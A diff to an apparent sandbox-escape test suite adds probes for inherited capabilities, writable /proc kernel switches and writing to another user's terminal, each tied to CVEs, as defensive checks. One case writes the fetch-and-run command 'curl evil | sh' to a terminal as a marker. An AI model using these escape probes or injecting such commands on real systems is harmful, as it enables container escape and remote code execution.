@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 from tests.attack.case import Case
+from tests.attack.victim_launcher import others_terminal
 from tests.attack.victim_processes import key_holder, roomed, system_v
 from tests.attack.victims import console, own_cgroup, secret, terminal
 
@@ -25,6 +26,7 @@ escaped("made a user namespace")
 """,
         known_as="CVE-2022-0185, CVE-2021-3493 and others begin here",
         everyday=True,
+        partial={"gvisor-root": "system_calls"},
     ),
     Case(
         "nested-user-namespace-by-clone",
@@ -36,6 +38,7 @@ if pid == 0: os._exit(0)
 os.waitpid(pid, 0)
 escaped("made a user namespace")
 """,
+        partial={"gvisor-root": "system_calls"},
     ),
     Case(
         "nested-user-namespace-by-clone3",
@@ -97,6 +100,7 @@ except OSError: pass
 call("chroot", ctypes.c_char_p(S["workspace"].encode()))
 escaped("changed the root")
 """,
+        partial={"gvisor-root": "system_calls"},
     ),
     Case(
         "join-namespace",
@@ -190,6 +194,7 @@ call("syslog", 10, 0, 0)
 escaped("asked for the log")
 """,
         control="root",
+        partial={"gvisor-root": "system_calls"},
     ),
     Case(
         "rename-the-host",
@@ -267,6 +272,7 @@ escaped("made a ring")
 """,
         known_as="CVE-2023-2598 and others begin here",
         everyday=True,
+        partial={"gvisor-root": "system_calls"},
     ),
     Case(
         "userfaultfd",
@@ -318,6 +324,44 @@ if libc.prctl(39, 0, 0, 0, 0) != 1: escaped("a program may still gain rights")
         partial={"landlock-ordinary": "capabilities"},
     ),
     Case(
+        "inherited-capabilities",
+        "kernel",
+        "find a right that was handed down, in any of the sets",
+        """
+for line in read("/proc/self/status").decode().splitlines():
+    if line.startswith(("CapInh:", "CapPrm:", "CapEff:", "CapAmb:")) and int(line.split()[1], 16): escaped(line)
+""",
+        known_as="CVE-2022-29162",
+        control="root",
+    ),
+    Case(
+        "kernel-switches",
+        "kernel",
+        "find a switch of the kernel beside its settings that can be opened for writing",
+        """
+for name in os.listdir("/proc"):
+    if name.isdigit() or name in ("self", "thread-self", "sys"): continue
+    for folder, _, files in os.walk(f"/proc/{name}") if os.path.isdir(f"/proc/{name}") else (("/proc", [], [name]),):
+        for file in files:
+            try:
+                # not what every user may write, such as `pressure`, nor what is hidden below a harmless device
+                if os.stat(f"{folder}/{file}").st_mode & 0o170002 != 0o100000: continue
+                os.open(f"{folder}/{file}", os.O_WRONLY | os.O_NONBLOCK)
+            except OSError: continue
+            escaped(f"{folder}/{file}")
+""",
+        known_as="CVE-2025-52881, CVE-2025-31133",
+        control="root",
+    ),
+    Case(
+        "terminal-of-others",
+        "kernel",
+        "write on the terminal of somebody else",
+        'os.write(os.open(S["terminal"], os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK), b"curl evil | sh")',
+        (others_terminal,),
+        known_as="CVE-2025-52565",
+    ),
+    Case(
         "second-door-of-x86",
         "kernel",
         "make a call of 32-bit programs, which a filter for 64 bits does not know",
@@ -331,6 +375,7 @@ ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page))
 escaped("called")
 """,
         stopped=True,
+        partial={"gvisor-root": "system_calls"},
     ),
     Case(
         "read-through-own-root",
